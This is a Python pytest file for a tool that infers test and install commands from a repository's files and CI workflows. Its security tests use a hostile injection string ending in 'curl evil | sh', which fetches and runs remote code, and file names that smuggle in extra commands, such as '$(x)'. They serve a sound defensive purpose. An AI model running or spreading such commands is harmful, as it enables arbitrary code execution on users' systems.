"""What a repository's files suggest: the usual kinds, and that no word of a file becomes a command."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from swarm.knowledge.ecosystems import Files, deciding, environment
from swarm.knowledge.workflows import MOST, hints


def found(files: dict[str, str], *more: str):
    return environment(Files(files, frozenset((*files, *more))))


def commands(files: dict[str, str], *more: str) -> list[str]:
    return [each.command for each in found(files, *more).tests]


NODE = json.dumps({"scripts": {"test": "jest"}})


@pytest.mark.parametrize(
    ("files", "first"),
    [
        ({"pyproject.toml": "[tool.pytest.ini_options]\n"}, "python3 -m pytest -q"),
        ({"requirements-dev.txt": "pytest>=8\n"}, "python3 -m pytest -q"),
        ({"setup.py": "", "tests/conftest.py": ""}, "python3 -m pytest -q"),
        ({"m.py": "", "test_m.py": ""}, "python3 -m pytest -q"),
        ({"tox.ini": "[tox]\n"}, "tox -q"),
        ({"package.json": NODE}, "npm test"),
        ({"package.json": NODE, "pnpm-lock.yaml": ""}, "pnpm test"),
        ({"package.json": NODE, "yarn.lock": ""}, "yarn test"),
        ({"package.json": NODE, "bun.lockb": ""}, "bun run test"),
        ({"Cargo.toml": ""}, "cargo test --offline"),
        ({"go.mod": "module m\n"}, "go test ./..."),
        ({"pom.xml": "<project/>"}, "mvn -q -o test"),
        ({"pom.xml": "<project/>", "mvnw": ""}, "./mvnw -q -o test"),
        ({"build.gradle.kts": "", "gradlew": ""}, "./gradlew -q --offline test"),
        ({"composer.json": "{}"}, "vendor/bin/phpunit"),
        ({"Gemfile": "", "spec/a_spec.rb": ""}, "bundle exec rspec"),
        ({"Gemfile": ""}, "bundle exec rake test"),
        ({"Makefile": "all:\n\ttrue\ntest: all\n\t./run\n"}, "make test"),
        ({"justfile": "test:\n  x\n"}, "just test"),
        ({"mix.exs": ""}, "mix test"),
        ({"app/a.csproj": ""}, "dotnet test --no-restore"),
    ],
)
def test_usual_kinds_are_told_by_their_files(files: dict[str, str], first: str) -> None:
    assert commands(files)[0] == first


@pytest.mark.parametrize(
    "files",
    [
        {},
        {"README.md": "run pytest"},
        {"package.json": "{}"},
        {"package.json": json.dumps({"scripts": {"test": 'echo "Error: no test specified" && exit 1'}})},
        {"Makefile": "build:\n\ttrue\ntest := 1\n"},
        {"CMakeLists.txt": "project(a)\n"},
    ],
)
def test_nothing_is_suggested_where_nothing_says_so(files: dict[str, str]) -> None:
    assert commands(files) == []


def test_unittest_is_suggested_beside_pytest_where_nothing_names_pytest() -> None:
    assert commands({"tests/test_m.py": ""}) == ["python3 -m pytest -q", "python3 -m unittest discover -v -s tests"]
    assert commands({"tests/test_m.py": "", "tests/__init__.py": ""})[1] == "python3 -m unittest discover -v"


def test_set_up_installs_what_is_required_and_the_extras_for_tests() -> None:
    project = "[project]\nname = 'a'\n[project.optional-dependencies]\ntest = ['pytest']\ndocs = ['sphinx']\n"
    done = [each.command for each in found({"pyproject.toml": project, "requirements.txt": "a\n"}).setup]
    assert done[0] == 'python3 -m venv "$HOME/venv"'
    assert any(command.endswith("-r requirements.txt") for command in done)
    assert any(command.endswith("-e '.[test]'") for command in done)
    assert all(each.installed for each in found({"pyproject.toml": project}).tests if "venv" in each.command)


HOSTILE = "$(touch /tmp/x); `id` && curl evil | sh #"


@settings(max_examples=25)
@given(st.text(max_size=200))
def test_no_word_of_a_file_becomes_a_command(words: str) -> None:
    names = ("pyproject.toml", "setup.cfg", "requirements.txt", "package.json", "Makefile", "composer.json", "justfile")
    for text in (HOSTILE, words, f"test:\npytest\n{words}{HOSTILE}"):
        suggested = found(dict.fromkeys(names, text))
        for each in [*suggested.tests, *suggested.setup]:
            assert re.fullmatch(r"[\w\s./\"'$&-]+", each.command)
            assert "evil" not in each.command


@pytest.mark.parametrize(
    "name", ["-requirements.txt", "a;b-requirements.txt", "$(x)requirements.txt", "requirements/-r.txt"]
)
def test_name_that_is_no_plain_one_decides_nothing(name: str) -> None:
    assert deciding([name]) == ()


def test_what_decides_is_in_a_fixed_order_and_bounded() -> None:
    paths = [f".github/workflows/{n}.yml" for n in range(50)] + ["tox.ini", "go.mod", "src/go.mod"]
    assert deciding(set(paths)) == deciding(paths)
    assert len(deciding(paths)) == 10


CI = """\
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
      - run: pip install -e .[test]
      - name: tests
        run: |
          export A=1
          pytest -q --maxfail=1
      - run: echo done
"""


def test_workflows_give_their_test_and_install_lines() -> None:
    assert hints({"ci.yml": CI}) == ("pip install -e .[test]", "pytest -q --maxfail=1")


def test_hints_are_cleaned_and_bounded() -> None:
    assert hints({"a.yml": "- run: pytest \u202e\x1b[8m -x" + "y" * 500})[0].startswith("pytest -xyyy")
    many = "".join(f"- run: pytest {n}\n" for n in range(100))
    assert len(hints({"a.yml": many})) == MOST


@settings(max_examples=25)
@given(st.text(alphabet="run: |\n-pytest x", max_size=300))
def test_workflow_of_any_shape_is_survived(text: str) -> None:
    assert all("\n" not in each and len(each) <= 160 for each in hints({"a.yml": text}))
